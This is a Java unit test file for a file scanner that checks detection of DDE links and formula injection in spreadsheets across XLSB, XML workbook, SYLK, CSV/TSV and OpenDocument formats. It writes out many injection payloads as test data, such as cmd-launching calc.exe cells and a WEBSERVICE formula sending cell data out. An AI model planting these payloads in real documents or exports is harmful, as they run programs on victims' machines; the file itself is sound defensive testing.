package dev.dropgate.inspect.rules.documents;

import static org.assertj.core.api.Assertions.assertThat;

import dev.dropgate.model.Finding;
import dev.dropgate.model.ScanResult;
import dev.dropgate.model.Verdict;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Sheets that start a program by a link to its data, in every format that has such links. */
class DdeLinksTest {
  private static final String SHEET =
      "<?xml version='1.0'?><Workbook xmlns='urn:schemas-microsoft-com:office:spreadsheet'"
          + " xmlns:ss='urn:schemas-microsoft-com:office:spreadsheet'>";
  private static final String ODF = "urn:oasis:names:tc:opendocument:xmlns:";

  private static String rules(String name, String text) {
    return DocumentSamples.judge(name, text.getBytes(StandardCharsets.UTF_8)).rules();
  }

  private static byte[] wide(int characters, String text) {
    return OleSamples.join(
        new byte[] {(byte) characters, 0, 0, 0}, text.getBytes(StandardCharsets.UTF_16LE));
  }

  private static byte[] binaryLink(int kind, String service, String topic) throws Exception {
    byte[] data =
        OleSamples.join(
            new byte[] {(byte) kind, 0},
            wide(service.length(), service),
            wide(topic.length(), topic));
    return OleSamples.join(
        new byte[] {
          (byte) 0xE8, 2, (byte) ((data.length & 0x7F) | 0x80), (byte) (data.length >> 7)
        },
        data);
  }

  @ParameterizedTest
  @ValueSource(strings = {"xl/externalLinks/externalLink1.bin", "x/y.dat"})
  void aLinkOfABinaryWorkbookIsFoundInAnyPart(String part) throws Exception {
    byte[] link = DocumentSamples.office(part, binaryLink(1, "cmd", "/c calc.exe"));
    assertThat(DocumentSamples.judge("a.xlsb", link).rules()).isEqualTo("office-dde");
    byte[] prices = DocumentSamples.office(part, binaryLink(1, "REUTER", "IDN"));
    assertThat(DocumentSamples.judge("a.xlsb", prices).rules()).isEmpty();
    byte[] book = DocumentSamples.office(part, binaryLink(0, "rId1", ""));
    assertThat(DocumentSamples.judge("a.xlsb", book).rules()).isEmpty();
    byte[] torn = DocumentSamples.office(part, new byte[] {(byte) 0xE8, 2, (byte) 0xFF});
    assertThat(DocumentSamples.judge("a.xlsb", torn).rules()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(strings = {"a.xml", "a.xls", "a"})
  void aWorkbookThatIsOneXmlFileIsReadToo(String name) {
    String cell = SHEET + "<Cell ss:Formula=\"=cmd|'/c calc.exe'!A1\"/></Workbook>";
    String link =
        SHEET
            + "<ExcelWorkbook><SupBook><Path>cmd|/c"
            + " calc</Path></SupBook></ExcelWorkbook></Workbook>";
    for (String text : List.of(cell, link, cell.replace("<?xml version='1.0'?>", ""))) {
      assertThat(rules(name, text)).isEqualTo("office-dde");
    }
    String plain = SHEET + "<Cell ss:Formula='=SUM(A1:A2)'/><Path>C:\\a\\b.xls</Path></Workbook>";
    assertThat(rules(name, plain)).isEmpty();
    String far = "<Cell ss:Formula=\"='http://example.org/[b.xls]S'!RC\"/></Workbook>";
    assertThat(rules(name, SHEET + far)).isEmpty();
    assertThat(rules(name, SHEET + "<Cell>&#1;</Cell></Workbook>")).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "EMSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
        "ECMD|'/C calc'!A0",
        "EIF(1,cmd|'/C calc'!A0,2)",
        "E'cmd'|'/C calc'!A0",
        "EX|'\\..\\..\\x'!A0"
      })
  void aCellOfSylkThatStartsAProgramIsFound(String field) {
    for (String end : new String[] {"\r\n", "\n"}) {
      String table = "ID;P" + end + "C;Y1;X1;K0;" + field;
      assertThat(rules("a.slk", table + end + "E" + end)).isEqualTo("office-dde");
      assertThat(rules("a.xls", table)).isEqualTo("office-dde");
    }
  }

  @Test
  void anOrdinaryCellOfSylkIsClean() {
    String table =
        "ID;P\nC;Y1;X1;K\"a|b!\"\nC;Y1;X2;K0;ESUM(R1C1:R2C2)\nC;Y2;X1;K0;EREUTER|'IDN'!X\n";
    assertThat(rules("a.slk", table + "E\n")).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=cmd|'/c calc'!A0",
        "a,b\n1,\"=cmd|'/c calc'!A0\"\n",
        "a;b\r\n1;+cmd|'/c calc'!A0\r\n",
        "x\t-2+3+cmd|'/c calc'!A0",
        "\"@SUM(1+1)*cmd|'/c calc, x'!A0\"",
        "=WEBSERVICE(\"https://example.org/?\"&A1)"
      })
  void formulaInATextTableIsOnlyLogged(String text) {
    for (Charset charset : List.of(StandardCharsets.UTF_8, StandardCharsets.UTF_16LE)) {
      byte[] bytes =
          (charset.equals(StandardCharsets.UTF_8) ? text : "\uFEFF" + text).getBytes(charset);
      for (String name : new String[] {"a.csv", "a.tsv"}) {
        ScanResult judgement = DocumentSamples.judge(name, bytes);
        assertThat(judgement.verdict()).isEqualTo(Verdict.CLEAN);
        assertThat(judgement.shadow()).extracting(Finding::rule).containsExactly("csv-formula");
      }
    }
    assertThat(DocumentSamples.judge("a.txt", text.getBytes(StandardCharsets.UTF_8)).shadow())
        .isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"-1,-2,+3\n", "=SUM(A1:A2),b\n=A1\n", "a|b!c,x=1|2!3", "-\n-|\n", "@home,a!b"})
  void anOrdinaryTableIsNoFinding(String text) {
    assertThat(DocumentSamples.judge("a.csv", text.getBytes(StandardCharsets.UTF_8)).shadow())
        .isEmpty();
  }

  @Test
  void aLinkOfAnOpenDocumentIsFoundInAZipAndInOneFile() throws Exception {
    String begin =
        "<o:document xmlns:o='" + ODF + "office:1.0' xmlns:table='" + ODF + "table:1.0'>";
    for (String link :
        List.of(
            "<o:dde-source o:dde-application='cmd' o:dde-topic='/c calc'/>",
            "<table:table-cell table:formula='of:=DDE(\"cmd\";\"/c calc\";\"x\")'/>")) {
      String content = begin + link + "</o:document>";
      assertThat(rules("a.fods", content)).isEqualTo("office-dde");
      byte[] zip =
          DocumentSamples.zip(
              "mimetype",
              "application/vnd.oasis.opendocument.spreadsheet",
              "META-INF/manifest.xml",
              "<m/>",
              "content.xml",
              content);
      assertThat(DocumentSamples.judge("a.ods", zip).rules()).isEqualTo("office-dde");
    }
    String prices = begin + "<o:dde-source o:dde-application='soffice' o:dde-topic='a.ods'/>";
    assertThat(rules("a.fods", prices + "</o:document>")).isEmpty();
  }
}
